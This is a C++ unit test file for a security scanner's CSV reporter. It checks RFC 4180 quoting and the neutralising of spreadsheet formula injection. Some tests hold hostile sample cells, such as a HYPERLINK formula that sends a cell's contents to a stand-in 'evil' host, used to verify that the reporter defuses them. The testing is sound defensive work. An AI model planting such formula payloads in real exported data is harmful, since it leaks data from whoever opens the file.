#include "csv_reporter.hpp"

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "bbp/report/json_reporter.hpp"
#include "report_fixture.hpp"

namespace bbp::report::testing {
namespace {

// A strict RFC 4180 reader: records end with CRLF, quoted fields may hold anything, a bare CR
// or LF outside quotes is an error.
std::vector<std::vector<std::string>> parse_csv(const std::string& text) {
  std::vector<std::vector<std::string>> records;
  std::vector<std::string> record;
  std::string field;
  std::size_t i = 0;
  bool at_field_start = true;
  while (i < text.size()) {
    const char c = text[i];
    if (at_field_start && c == '"') {
      ++i;
      for (;;) {
        if (i >= text.size()) {
          throw std::runtime_error("unterminated quoted field");
        }
        if (text[i] == '"') {
          if (i + 1 < text.size() && text[i + 1] == '"') {
            field += '"';
            i += 2;
            continue;
          }
          ++i;
          break;
        }
        field += text[i++];
      }
      at_field_start = false;
      continue;
    }
    if (c == ',') {
      record.push_back(std::move(field));
      field.clear();
      at_field_start = true;
      ++i;
    } else if (c == '\r') {
      if (i + 1 >= text.size() || text[i + 1] != '\n') {
        throw std::runtime_error("CR without LF at byte " + std::to_string(i));
      }
      record.push_back(std::move(field));
      field.clear();
      records.push_back(std::move(record));
      record.clear();
      at_field_start = true;
      i += 2;
    } else if (c == '\n') {
      throw std::runtime_error("LF without CR at byte " + std::to_string(i));
    } else if (c == '"') {
      throw std::runtime_error("quote inside an unquoted field at byte " + std::to_string(i));
    } else {
      field += c;
      at_field_start = false;
      ++i;
    }
  }
  if (!record.empty() || !field.empty()) {
    throw std::runtime_error("last record does not end with CRLF");
  }
  return records;
}

TEST(CsvFieldTest, QuotesOnlyWhenNeeded) {
  EXPECT_EQ(csv_field("plain text"), "plain text");
  EXPECT_EQ(csv_field(""), "");
  EXPECT_EQ(csv_field("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_field("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(csv_field("cr\rhere"), "\"cr\rhere\"");
  EXPECT_EQ(csv_field("\""), "\"\"\"\"");
}

TEST(CsvInertTest, FormulaStartsGetALeadingQuote) {
  for (const std::string text :
       {"=HYPERLINK(\"http://evil\",\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "=", "-"}) {
    EXPECT_EQ(csv_inert(text), "'" + text) << text;
  }
  for (const std::string text :
       {"", "plain", "acme/web", "{\"a\":1}", "a=b", " =1", "'quoted", "2-3", "\nx"}) {
    EXPECT_EQ(csv_inert(text), text) << text;
  }
}

TEST(CsvReporterTest, HeaderThenOneRowPerFindingWithCrlf) {
  const auto report = sample_report();
  const auto text = render(CsvReporter(), report);
  const auto records = parse_csv(text);
  ASSERT_EQ(records.size(), report.findings.size() + 1);
  EXPECT_EQ(records[0], std::vector<std::string>(kCsvColumns.begin(), kCsvColumns.end()));
  for (std::size_t i = 1; i < records.size(); ++i) {
    const auto& row = records[i];
    const auto& f = report.findings[i - 1];
    ASSERT_EQ(row.size(), kCsvColumns.size()) << i;
    EXPECT_EQ(row[0], core::to_string(f.rule->severity));
    EXPECT_EQ(row[1], f.rule->slug);
    EXPECT_EQ(row[2], f.rule->id);
    EXPECT_EQ(row[3], f.rule->title);
    EXPECT_EQ(row[4], core::message_of(*f.rule, f.evidence.value()));
    EXPECT_FALSE(row[4].empty());
    EXPECT_EQ(row[5], f.workspace.value_or(""));
    EXPECT_EQ(row[6], f.repository.value_or(""));
    EXPECT_EQ(row[7], f.project.value_or(""));
    EXPECT_EQ(row[8], core::to_string(f.resource.type));
    EXPECT_EQ(row[9], f.resource.id);
    EXPECT_EQ(row[10], f.resource.name);
    EXPECT_EQ(row[11], f.resource.url);
    EXPECT_EQ(row[12], f.fingerprint);
    EXPECT_EQ(nlohmann::json::parse(row[13]), f.evidence.value());
    EXPECT_EQ(row[13].find('\n'), std::string::npos) << "evidence is compact JSON";
    EXPECT_EQ(row[14], f.rule->remediation);
  }
}

TEST(CsvReporterTest, MessageFollowsTheTitleAndStatesTheThreshold) {
  const auto records = parse_csv(render(CsvReporter(), sample_report()));
  EXPECT_EQ(records[0][3], "title");
  EXPECT_EQ(records[0][4], "message");
  const auto it = std::find_if(records.begin(), records.end(),
                               [](const auto& row) { return row[1] == "stale-repository"; });
  ASSERT_NE(it, records.end());
  EXPECT_EQ((*it)[4], "last updated 400 days ago; threshold 365 days");
}

TEST(CsvReporterTest, LabelWithCommaQuoteAndNewlineRoundTrips) {
  const auto records = parse_csv(render(CsvReporter(), sample_report()));
  const auto it =
      std::find_if(records.begin(), records.end(), [](const auto& row) { return row[9] == "123"; });
  ASSERT_NE(it, records.end());
  EXPECT_EQ((*it)[10], "build, \"prod\"\nserver");
}

// Names are free text: a spreadsheet opening the report must show them, never evaluate them.
TEST(CsvReporterTest, CellsThatASpreadsheetWouldEvaluateAreNeutralised) {
  const std::vector<std::string> hostile{
      "=HYPERLINK(\"http://evil.test/?\"&A1,\"open\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"};
  auto report = sample_report();
  ASSERT_GE(report.findings.size(), hostile.size());
  for (std::size_t i = 0; i < hostile.size(); ++i) {
    auto& f = report.findings[i];
    f.resource.name = hostile[i];
    f.workspace = hostile[i];
    f.repository = hostile[i];
    f.project = hostile[i];
    f.resource.id = hostile[i];
    f.resource.url = hostile[i];
  }
  const auto records = parse_csv(render(CsvReporter(), report));
  for (std::size_t i = 0; i < hostile.size(); ++i) {
    const auto& row = records[i + 1];
    for (const std::size_t column : {5U, 6U, 7U, 9U, 10U, 11U}) {
      EXPECT_EQ(row[column], "'" + hostile[i]) << kCsvColumns[column] << ": " << hostile[i];
    }
  }
  // No cell of the document starts with a character a spreadsheet evaluates.
  for (const auto& row : records) {
    for (const auto& cell : row) {
      EXPECT_TRUE(cell.empty() ||
                  std::string_view("=+-@\t\r").find(cell[0]) == std::string_view::npos)
          << cell;
    }
  }
}

TEST(CsvReporterTest, NeutralisedCellsAreStillQuotedAsRfc4180Says) {
  auto report = sample_report();
  report.findings[0].resource.name = "=1,\"2\"\r\n3";
  const auto text = render(CsvReporter(), report);
  EXPECT_NE(text.find(",\"'=1,\"\"2\"\"\r\n3\","), std::string::npos) << text;
  EXPECT_EQ(parse_csv(text)[1][10], "'=1,\"2\"\r\n3");
}

TEST(CsvReporterTest, JsonKeepsHostileNamesExactly) {
  auto report = sample_report();
  report.findings[0].resource.name = "=HYPERLINK(\"x\")";
  EXPECT_EQ(finding_json(report.findings[0]).at("resource").at("name"), "=HYPERLINK(\"x\")");
}

TEST(CsvReporterTest, NoFindingsIsJustTheHeader) {
  ScanReport empty;
  EXPECT_EQ(render(CsvReporter(), empty),
            "severity,rule,finding_type_id,title,message,workspace,repository,project,"
            "resource_type,resource_id,resource_name,resource_url,fingerprint,evidence,"
            "remediation,suppressed_reason,suppressed_expires,suppressed_source,baseline_state,"
            "declared_by\r\n");
}

TEST(CsvReporterTest, SuppressedAndBaselineColumns) {
  auto report = sample_report();
  report.findings[0].suppressed = core::SuppressionMark{"known", "2027-01-31", "bbposture.yaml:4"};
  report.findings[0].baseline_state = core::BaselineState::new_finding;
  report.baseline = BaselineInfo{"old.json", report.started_at};
  report.fixed.push_back(report.findings[1]);
  report.fixed.back().baseline_state.reset();
  const auto text = render(CsvReporter(), report);
  EXPECT_NE(text.find(",known,2027-01-31,bbposture.yaml:4,new,\r\n"), std::string::npos) << text;
  EXPECT_NE(text.find(",,,,absent,\r\n"), std::string::npos) << text;
}

TEST(CsvReporterTest, TheReaderRejectsBareLineFeeds) {
  // The checks above rely on this reader failing on a non-RFC 4180 document.
  EXPECT_THROW(parse_csv("a,b\n"), std::runtime_error);
  EXPECT_THROW(parse_csv("a,\"b\r\n"), std::runtime_error);
  EXPECT_THROW(parse_csv("a,b\"c\r\n"), std::runtime_error);
}

}  // namespace
}  // namespace bbp::report::testing
